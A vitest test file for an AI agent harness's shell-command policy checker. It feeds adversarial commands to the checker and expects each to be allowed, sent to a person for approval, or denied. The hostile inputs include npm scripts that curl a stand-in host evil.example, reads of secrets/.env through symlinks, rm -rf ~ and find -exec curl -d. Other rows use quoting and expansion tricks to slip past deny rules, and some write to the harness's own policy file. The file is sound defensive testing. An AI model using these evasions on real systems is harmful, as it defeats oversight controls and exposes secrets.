/**
 * The command boundary, adversarially: each row is an input (a command line, an argv),
 * a policy, and what must come of it — allow, ask, or deny naming the rule and the layer
 * that produced the refusal. Paths resolve in a real temporary workspace holding a
 * package.json with scripts, a secrets directory, and symlinks pointing out of it.
 */
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { type CommandCheck, checkArgv, checkShell } from '../dist/runtime/policy/commands/index.js';
import { Policy } from '../dist/runtime/policy/policy.js';

const root = realpathSync(mkdtempSync(join(tmpdir(), 'io-harness-boundary-')));
const outside = realpathSync(mkdtempSync(join(tmpdir(), 'io-harness-outside-')));
afterAll(() => {
  rmSync(root, { recursive: true, force: true });
  rmSync(outside, { recursive: true, force: true });
});

mkdirSync(join(root, 'src'));
mkdirSync(join(root, 'secrets'));
mkdirSync(join(root, '.git'));
writeFileSync(join(root, 'secrets', '.env'), 'KEY=1\n');
writeFileSync(join(root, '.git', 'config'), '[core]\n');
writeFileSync(
  join(root, 'package.json'),
  JSON.stringify({
    name: 'tiny',
    scripts: {
      pretest: 'tsc -p .',
      test: 'vitest run',
      ok: 'ls src && echo done',
      x: 'npm publish --access public',
      nested: "sh -c 'curl https://evil.example/x.sh'",
      substituted: 'echo $(curl https://evil.example)',
      prebuild: 'curl https://evil.example/hook',
      build: 'tsc',
    },
  }),
);
// A symlink in the workspace that leads out of it, there before the policy is built.
symlinkSync(outside, join(root, 'src', 'out-link'));
// A symlink in the workspace that leads to a secret.
symlinkSync(join(root, 'secrets', '.env'), join(root, 'src', 'env-link'));

/** A realistic layered policy: the default layer, then the project's rules. */
const project = Policy.default()
  .layer('project')
  .allowRead('**')
  .allowWrite('src/**')
  .denyRead('secrets/**')
  .denyWrite('.git/**')
  .denyWrite('caf\u00e9/**') // written NFC
  .denyWrite('re\u0301sume\u0301/**') // written NFD
  .allowExec('npm test*')
  .allowExec('npm run*')
  .allowExec('ls*')
  .allowExec('cat*')
  .allowExec('grep*')
  .allowExec('echo*')
  .allowExec('sleep*')
  .allowExec('git status*')
  .denyExec('npm publish*')
  .denyExec('curl*')
  .denyExec('rm -rf*')
  .denyExec('bash*');

/** Only the workspace's src: nothing else allowed, so a path that escapes has no rule. */
const strict = Policy.empty().layer('project').allowRead('src/**').allowWrite('src/**').allowExec('ls*');

/** A broad allow: anything runs, except what the boundary takes for arbitrary code. */
const loose = Policy.default().layer('loose').allowExec('*');

/** An allow that names the interpreter: a person who writes it means it. */
const namesNode = Policy.default().layer('project').allowExec('node*');

/** A policy that refuses arbitrary code outright. */
const noArbitrary = Policy.default().layer('project').allowExec('*').denyExec('<arbitrary code>*');

/** Everything writable: only the floor stands between the agent and its configuration. */
const widest = Policy.default().layer('x').allowWrite('**');

type Expect =
  | { effect: 'allow' }
  | { effect: 'ask'; rule?: string }
  | { effect: 'deny'; rule: string | null | RegExp; layer: string | null };

interface Row {
  what: string;
  line?: string;
  argv?: string[];
  policy?: Policy;
  /** Runs after the policy was built and before the check (a change made mid-run). */
  before?: () => void;
  expect: Expect;
}

const allow: Expect = { effect: 'allow' };
const ask = (rule?: string): Expect => ({ effect: 'ask', ...(rule ? { rule } : {}) });
const deny = (rule: string | null | RegExp, layer: string | null): Expect => ({ effect: 'deny', rule, layer });
const noRule = deny(null, null);
const unsupported = deny('shell.unsupported', null);

const groups: Record<string, Row[]> = {
  paths: [
    { what: 'a ../ escape', line: 'ls > ../escape.txt', expect: noRule },
    { what: 'an absolute write outside', line: 'echo x > /etc/passwd', expect: noRule },
    { what: 'a cd out of the workspace', line: 'cd .. && ls > x', expect: noRule },
    {
      what: 'a pre-existing symlink in src leading outside',
      line: 'ls > src/out-link/x',
      policy: strict,
      expect: noRule,
    },
    {
      what: 'a symlink created mid-run, after the policy was built',
      line: 'ls > src/late-link/x',
      policy: strict,
      before: () => symlinkSync(outside, join(root, 'src', 'late-link')),
      expect: noRule,
    },
    { what: 'a symlink leading outside, under the default layer', line: 'ls > src/out-link/x', expect: noRule },
    {
      what: 'a dangling symlink in src whose target outside does not exist yet',
      line: 'ls > src/dangling-link',
      policy: strict,
      before: () => symlinkSync(join(outside, 'created-by-the-write'), join(root, 'src', 'dangling-link')),
      expect: noRule,
    },
    { what: '/proc/self/root back to /', line: 'ls > /proc/self/root/etc/passwd', expect: noRule },
    {
      what: 'secrets/.env under a secrets/** deny',
      line: 'cat < secrets/.env',
      expect: deny('deny-read secrets/**', 'project'),
    },
    // Unsure: whether a deny on secrets/** covers the directory itself (listing its names).
    {
      what: 'secrets itself under a secrets/** deny',
      line: 'cat < secrets',
      expect: deny('deny-read secrets/**', 'project'),
    },
    {
      what: 'a symlink in src leading to a secret',
      line: 'cat < src/env-link',
      expect: deny('deny-read secrets/**', 'project'),
    },
    { what: 'src/../secrets/x', line: 'cat < src/../secrets/x', expect: deny('deny-read secrets/**', 'project') },
    {
      what: '.GIT/config against a .git/** deny',
      line: 'ls > .GIT/config',
      expect: deny('deny-write **/.git', 'floor'),
    },
    {
      what: 'an NFD spelling of a name denied in NFC',
      line: 'ls > cafe\u0301/menu',
      expect: deny('deny-write caf\u00e9/**', 'project'),
    },
    {
      what: 'an NFC spelling of a name denied in NFD (the rule is kept in NFC)',
      line: 'ls > r\u00e9sum\u00e9/cv',
      expect: deny('deny-write r\u00e9sum\u00e9/**', 'project'),
    },
    {
      what: 'a cd into .git then a relative write',
      line: 'cd .git && ls > config',
      expect: deny('deny-write **/.git', 'floor'),
    },
  ],
  exec: [
    {
      what: 'npm publish reached through npm run x',
      line: 'npm run x',
      expect: deny('deny-exec npm publish*', 'project'),
    },
    {
      what: 'npm run of a script holding sh -c curl',
      line: 'npm run nested',
      expect: deny('deny-exec curl*', 'project'),
    },
    { what: 'npm run whose pre-hook runs curl', line: 'npm run build', expect: deny('deny-exec curl*', 'project') },
    {
      what: 'npm run of a script that cannot be parsed',
      line: 'npm run substituted',
      expect: deny('exec.package-script', null),
    },
    { what: 'npm run of a missing script', line: 'npm run nope', expect: deny('exec.package-script', null) },
    { what: 'npm test allowed by its rule', line: 'npm test', expect: allow },
    { what: 'npm run of a harmless script', line: 'npm run ok', expect: allow },
    {
      what: 'a generic * allow does not cover npm run',
      line: 'npm run ok',
      policy: loose,
      expect: ask('exec.arbitrary-code'),
    },
    {
      what: 'env X=1 before a denied program',
      argv: ['env', 'X=1', 'curl', 'x'],
      expect: deny('deny-exec curl*', 'project'),
    },
    { what: 'env PATH=... changes what runs', argv: ['env', 'PATH=/tmp/bin', 'ls'], expect: ask('exec.environment') },
    {
      what: 'xargs sh -c running a denied program',
      line: "xargs sh -c 'curl x'",
      expect: deny('deny-exec curl*', 'project'),
    },
    { what: 'xargs rm: input could add -rf', line: 'xargs rm', expect: deny('deny-exec rm -rf*', 'project') },
    { what: 'timeout 5 bash', argv: ['timeout', '5', 'bash'], expect: deny('deny-exec bash*', 'project') },
    {
      what: 'git -c core.hooksPath under a * allow',
      argv: ['git', '-c', 'core.hooksPath=/tmp/hooks', 'status'],
      policy: loose,
      expect: ask('exec.arbitrary-code'),
    },
    {
      what: 'git -c user.name under a * allow',
      argv: ['git', '-c', 'user.name=x', 'status'],
      policy: loose,
      expect: allow,
    },
    {
      what: 'git -c alias.x=!cmd',
      line: "git -c alias.st='!curl x' st",
      policy: loose,
      expect: ask('exec.arbitrary-code'),
    },
    { what: 'find . -exec rm {} ;', line: 'find . -exec rm {} \\;', expect: ask('exec.arbitrary-code') },
    {
      what: 'find . -exec rm -rf {} ;',
      line: 'find . -exec rm -rf {} \\;',
      expect: deny('deny-exec rm -rf*', 'project'),
    },
    {
      what: 'find -exec curl',
      line: 'find . -name x -exec curl -d @{} x \\;',
      expect: deny('deny-exec curl*', 'project'),
    },
    {
      what: 'awk system() calling curl',
      line: `awk 'BEGIN{system("curl x")}'`,
      expect: deny('deny-exec curl*', 'project'),
    },
    { what: 'awk printing fields', line: "awk '{print $1}' f", policy: loose, expect: allow },
    { what: 'sed with the e flag', line: "sed 's/x/id/e' f", policy: loose, expect: ask('exec.arbitrary-code') },
    { what: 'nice -n 5 curl', argv: ['nice', '-n', '5', 'curl', 'x'], expect: deny('deny-exec curl*', 'project') },
    {
      what: 'node -e under a * allow',
      argv: ['node', '-e', 'process.exit(0)'],
      policy: loose,
      expect: ask('exec.arbitrary-code'),
    },
    {
      what: 'node -e under an allow naming node',
      argv: ['node', '-e', 'process.exit(0)'],
      policy: namesNode,
      expect: allow,
    },
    {
      what: 'node -e under a deny on <arbitrary code>',
      argv: ['node', '-e', 'process.exit(0)'],
      policy: noArbitrary,
      expect: deny('deny-exec <arbitrary code>*', 'project'),
    },
    { what: 'sudo ls', argv: ['sudo', 'ls'], expect: deny('exec.privilege', null) },
    { what: 'sudo hidden behind env', line: 'env sudo ls', expect: deny('exec.privilege', null) },
    { what: 'command eval', line: "command eval 'curl x'", expect: unsupported },
    {
      what: 'a program in the workspace named like an allowed one',
      line: './src/ls',
      expect: ask('exec.arbitrary-code'),
    },
    { what: 'busybox sh -c curl', line: "busybox sh -c 'curl x'", expect: deny('deny-exec curl*', 'project') },
  ],
  shell: [
    { what: 'a denied command after ;', line: 'ls; curl x', expect: deny('deny-exec curl*', 'project') },
    { what: 'rm -rf ~ after &&', line: 'ls && rm -rf ~', expect: deny('deny-exec rm -rf*', 'project') },
    { what: 'a denied command after ||', line: 'ls || curl x', expect: deny('deny-exec curl*', 'project') },
    { what: 'a pipe into sh', line: 'ls | sh', expect: ask('exec.arbitrary-code') },
    { what: 'a command substitution', line: 'echo $(curl x)', expect: unsupported },
    { what: 'backticks', line: 'echo `curl x`', expect: unsupported },
    { what: 'a process substitution', line: 'cat <(curl x)', expect: unsupported },
    { what: 'an unquoted here-doc holding $(...)', line: 'cat <<EOF\n$(curl x)\nEOF', expect: unsupported },
    { what: "a quoted here-doc (<<'EOF') holding $(...) as text", line: "cat <<'EOF'\n$(curl x)\nEOF", expect: allow },
    { what: 'a redirect to ~/.bashrc', line: 'ls > ~/.bashrc', expect: noRule },
    { what: 'a stderr redirect to /etc', line: 'ls 2>/etc/x', expect: noRule },
    { what: 'a subshell', line: '( ls )', expect: unsupported },
    { what: 'a function definition', line: 'f(){ ls; }; f', expect: unsupported },
    { what: 'a background job', line: 'sleep 99 &', expect: unsupported },
    { what: "adjacent quotes 'r''m'", line: "'r''m' -rf x", expect: deny('deny-exec rm -rf*', 'project') },
    { what: 'a backslash r\\m', line: 'r\\m -rf x', expect: deny('deny-exec rm -rf*', 'project') },
    { what: 'a quoted piece "c"url', line: '"c"url x', expect: deny('deny-exec curl*', 'project') },
    { what: 'a parameter expansion $HOME', line: 'ls $HOME', expect: unsupported },
    { what: 'a write into src', line: 'ls > src/out.txt', expect: allow },
    { what: 'an append to .git/config', line: 'ls >> .git/config', expect: deny('deny-write **/.git', 'floor') },
    { what: '2>&1 is an fd duplication, not a file', line: 'ls 2>&1 | grep x', expect: allow },
    { what: 'eval', line: 'eval ls', expect: unsupported },
    { what: '. ./script', line: '. ./script', expect: unsupported },
    { what: 'a brace expansion {r,}m', line: '{r,}m -rf x', expect: unsupported },
    { what: 'a PATH assignment prefix', line: 'PATH=/tmp/bin ls', expect: ask('exec.environment') },
    { what: 'a line continuation after $', line: 'c$\\\n{x}url x', expect: unsupported },
    {
      what: 'a continuation hiding a redirect target',
      line: 'ls > \\\n io.toml',
      policy: widest,
      expect: deny(/io\.toml/, 'floor'),
    },
    {
      what: 'a continuation splitting <<- so a naive reader would take a command for here-doc text',
      line: 'cat <<\\\n-EOF\nEOF\ncurl x\n-EOF',
      expect: unsupported,
    },
    { what: '&> (a background job under dash)', line: 'ls &> src/out.txt', expect: unsupported },
    { what: 'assigning PS4, expanded under set -x', line: "PS4='$(curl x)'; set -x; ls", expect: unsupported },
    {
      what: "a quoted = is no assignment: a''=x runs a program",
      line: "a''=/tmp/x",
      expect: ask('exec.arbitrary-code'),
    },
  ],
  config: [
    // needs the floor layer
    { what: 'write io.toml', line: "echo '[policy]' > io.toml", policy: widest, expect: deny(/io\.toml/, 'floor') },
    // needs the floor layer
    {
      what: 'append io.local.toml',
      line: 'echo x >> io.local.toml',
      policy: widest,
      expect: deny(/io\.local\.toml/, 'floor'),
    },
    // needs the floor layer
    {
      what: 'write under .io-harness',
      line: 'echo x > .io-harness/policy.json',
      policy: widest,
      expect: deny(/\.io-harness/, 'floor'),
    },
    // needs the floor layer
    {
      what: 'write io.toml through src/..',
      line: 'echo x > src/../io.toml',
      policy: widest,
      expect: deny(/io\.toml/, 'floor'),
    },
    // needs the floor layer; the link dangles (io.toml does not exist yet) and > creates its target
    {
      what: 'write io.toml through a dangling symlink in src',
      line: 'echo x > src/config-link',
      policy: widest,
      before: () => symlinkSync(join(root, 'io.toml'), join(root, 'src', 'config-link')),
      expect: deny(/io\.toml/, 'floor'),
    },
  ],
};

function describeExpect(expect: Expect): string {
  if (expect.effect === 'allow') return 'allow';
  if (expect.effect === 'ask') return expect.rule ? `ask (${expect.rule})` : 'ask';
  const rule = expect.rule === null ? 'no rule' : String(expect.rule);
  return `deny (${rule}, layer ${expect.layer ?? 'none'})`;
}

function check(row: Row): CommandCheck {
  const policy = row.policy ?? project;
  return row.argv ? checkArgv(row.argv, policy, root) : checkShell(row.line ?? '', policy, root);
}

function explain(result: CommandCheck): string {
  const decisions = result.decisions.map(
    (d) => `${d.effect} ${d.rule ?? '(no rule)'} @${d.layer ?? '-'}: ${d.subject}`,
  );
  return [result.ok ? `effect ${result.effect}` : `denied: ${result.reason}`, ...decisions].join('\n  ');
}

for (const [group, rows] of Object.entries(groups)) {
  describe(`boundary: ${group}`, () => {
    for (const row of rows) {
      const input = row.argv ? JSON.stringify(row.argv) : JSON.stringify(row.line);
      it(`${row.what}: ${input} → ${describeExpect(row.expect)}`, () => {
        row.before?.();
        const result = check(row);
        const why = explain(result);
        if (row.expect.effect === 'deny') {
          expect(result.ok, why).toBe(false);
          if (result.ok) return;
          if (row.expect.rule instanceof RegExp) expect(result.rule, why).toMatch(row.expect.rule);
          else expect(result.rule, why).toBe(row.expect.rule ?? 'policy.no-rule');
          expect(result.layer, why).toBe(row.expect.layer);
          return;
        }
        expect(result.ok, why).toBe(true);
        if (!result.ok) return;
        expect(result.effect, why).toBe(row.expect.effect);
        if (row.expect.effect === 'ask' && row.expect.rule) {
          expect(
            result.decisions.some((d) => d.effect === 'ask' && d.rule === (row.expect as { rule: string }).rule),
            why,
          ).toBe(true);
        }
      });
    }
  });
}

describe('boundary: the parser', () => {
  it('reads quotes, escapes, assignments, redirects and connectors the way sh does', async () => {
    const { parseShell } = await import('../dist/runtime/policy/shell.js');
    const parsed = parseShell(
      "X=1 'r''m' -f \"a b\" 2>/dev/null && ls\\ x | grep -e y > src/o.txt; cat <<'E'\n$(x)\nE\n",
    );
    expect(parsed).toEqual({
      ok: true,
      stages: [
        {
          argv: ['rm', '-f', 'a b'],
          globs: [],
          assignments: { X: '1' },
          redirects: [{ fd: 2, op: '>', target: '/dev/null' }],
          connector: '&&',
        },
        { argv: ['ls x'], globs: [], assignments: {}, redirects: [], connector: '|' },
        {
          argv: ['grep', '-e', 'y'],
          globs: [],
          assignments: {},
          redirects: [{ fd: 1, op: '>', target: 'src/o.txt' }],
          connector: ';',
        },
        {
          argv: ['cat'],
          globs: [],
          assignments: {},
          redirects: [{ fd: 0, op: '<<', target: '$(x)\n' }],
          connector: null,
        },
      ],
    });
  });

  it('says which construct it refuses', async () => {
    const { parseShell } = await import('../dist/runtime/policy/shell.js');
    const reasons = ['echo $(id)', 'ls &', '( ls )', 'echo $HOME', 'ls > *.txt', "echo 'open"].map((line) => {
      const parsed = parseShell(line);
      return parsed.ok ? null : parsed.reason;
    });
    expect(reasons[0]).toMatch(/command substitution/);
    expect(reasons[1]).toMatch(/background/);
    expect(reasons[2]).toMatch(/subshell/);
    expect(reasons[3]).toMatch(/parameter expansion \$HOME/);
    expect(reasons[4]).toMatch(/pattern in the redirect target/);
    expect(reasons[5]).toMatch(/unterminated single quote/);
  });

  it('lists every decision, outer and inner, in order', () => {
    const result = checkShell('ls src && env X=1 grep x > src/out.txt', project, root);
    expect(result.ok).toBe(true);
    expect(result.decisions.map((d) => [d.effect, d.rule, d.subject])).toEqual([
      ['allow', 'allow-exec ls*', 'ls src'],
      ['ask', 'ask-exec *', 'env X=1 grep x'],
      ['allow', 'allow-exec grep*', 'grep x'],
      ['allow', 'allow-write src/**', 'src/out.txt'],
    ]);
  });
});
